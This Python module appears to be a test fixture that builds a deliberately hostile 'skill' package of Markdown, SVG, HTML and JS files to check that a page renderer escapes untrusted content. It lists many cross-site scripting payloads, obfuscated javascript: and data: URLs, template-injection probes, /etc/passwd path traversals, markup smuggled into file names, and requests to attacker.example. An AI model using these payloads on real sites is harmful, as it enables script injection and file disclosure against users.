"""Skills that try to run script in the browser of whoever reads their pages.

Every piece calls `ATTACK` if it gets anywhere: it sets a mark on the window that the tests look
for, and asks for a file of another host, which they would see.
"""

from __future__ import annotations

CALL = "window.attacked=1"
AWAY = "https://attacker.example/x"

TARGETS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java&#x73;cript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java\tscript:{CALL}",
    f"&#1;javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript://x%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>parent.{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.attacked=1>",
    "blob:https://attacker.example/x",
    "file:///etc/passwd",
    "//attacker.example/x",
    "\\\\attacker.example\\x",
    f'https://example.com/" onmouseover="{CALL}',
    f"https://example.com/'onclick='{CALL}",
    "intent://x#Intent;scheme=http;end",
    "../../../../etc/passwd",
    "/etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
)

HTML = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC={AWAY}></SCRIPT>",
    f"<scr<script>ipt>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src="{AWAY}">',
    f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    f'<base href="{AWAY}/">',
    f'<link rel=stylesheet href="{AWAY}"><style>@import "{AWAY}";</style>',
    f'<p style="background:url({AWAY})">styled</p>',
    f'<form action="{AWAY}"><input name=querySelector autofocus onfocus={CALL}></form>',
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<body onload={CALL}><marquee onstart={CALL}>x</marquee>",
    f"<video autoplay onloadstart={CALL}><source onerror={CALL}></video>",
    f"<a href=javascript:{CALL} id=clicked>click</a>",
    f"<a id='x\" onmouseover=\"{CALL}'></a><a name='documentElement'></a>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<!-- </details></main><script>{CALL}</script> -->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?php <script>{CALL}</script> ?>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><script>{CALL}</script></template>",
    f"<x onclick={CALL} tabindex=1 onfocus={CALL} autofocus>x</x>",
    f"<br onclick={CALL}><br/{CALL}>",
    f"</main></body></html><script>{CALL}</script>",
    "<plaintext>",
    f"<textarea></textarea><title></title><xmp><script>{CALL}</script></xmp>",
    f"<img src=`x`onerror={CALL}>",
    f'<a href="{AWAY}" ping="{AWAY}" target=_blank>ping</a>',
)

TEMPLATES = (
    "{{ 7 * 7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %} {# gone #}",
    "{{ self.__init__.__globals__ }} ${7*7} <%= 7*7 %> #{7*7} {{{x}}} [[${7*7}]]",
    "</script><script>window.attacked=1</script> \u2028 \u2029 mlskillSearch([]) __proto__",
    "\u202egnp.exe\u202c a\u200bb \x1b[2J \x00 \ufeff",
)

_NAMES = ("__proto__", "constructor", "documentElement", "mlskillSearch", "querySelector", "js")


def _page(title: str) -> str:
    """A page with everything in it, everywhere that a text can stand."""
    lines = [f"# {title}", ""]
    for number, target in enumerate(TARGETS):
        lines += [
            f"[link {number}]({target})",
            f"[angle {number}](<{target}>)",
            f"![image {number}]({target})",
            f"[![nested]({target})]({target})",
            f"[reference {number}][r{number}]",
            f"<{target}>",
            "",
            f'[r{number}]: <{target}> "title\' onmouseover={CALL} \\" x"',
            "",
        ]
    for number, html in enumerate(HTML):
        lines += [f"## {number} {html}", "", html, "", f"inline {html} text", "", f"- {html}", ""]
        lines += [f"> {html}", "", f"| {html} |", "| --- |", f"| `{html}` {html} |", ""]
        lines += [f"```{html}", html, "```", "", f"~~~ html {html}", html, "~~~", ""]
        lines += [f"[{html}](a.md '{html}')", f"![{html}](b.png '{html}')", ""]
    for name in _NAMES:
        lines += [f"## {name}", "", f'<a id="{name}"></a><form name="{name}">', ""]
    lines += [text for template in TEMPLATES for text in (template, "", f"### {template}", "")]
    return "\n".join(lines)


_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{CALL}</script><image href="{AWAY}"/></svg>'
)
_NAME = '"><img src=x onerror=window.attacked=1>'

FILES: dict[str, str | bytes] = {
    "SKILL.md": f"---\nname: '{_NAME}'\ndescription: \"</p><script>{CALL}</script>\"\n"
    f'"</dt><script>{CALL}</script>": "</dd><script>{CALL}</script>"\n---\n'
    + _page("</title><script>window.attacked=1</script>")
    + f"\n![drawing](drawing.svg) [page](page.html) [script](run.js)\n\n[a](<a {_NAME}.md>)\n",
    f"a {_NAME}.md": _page("A"),
    "quote'onmouseover='window.attacked=1.md": "# Quote\n",
    "drawing.svg": _SVG,
    "page.html": f"<script>{CALL}</script>",
    "run.js": f"{CALL};</script><script>{CALL}</script>",
    "index": "no page of ours",
    "index.html": f"<script>{CALL}</script>",
    "_mlskill/site.js": CALL,
    "search.js": CALL,
    "map.html": f"<script>{CALL}</script>",
    "not-a.png": f"<script>{CALL}</script>",
    "empty.md": "",
    "unclosed.md": "# Unclosed\n\n```html\n<script>window.attacked=1</script>\n",
    "comment.md": "# Comment\n\n<!-- unclosed <script>window.attacked=1</script>\n",
    "con.md": "# Con\n",
    ("long-" * 40) + ".md": "# Long\n",
}
"""One skill that tries it all."""
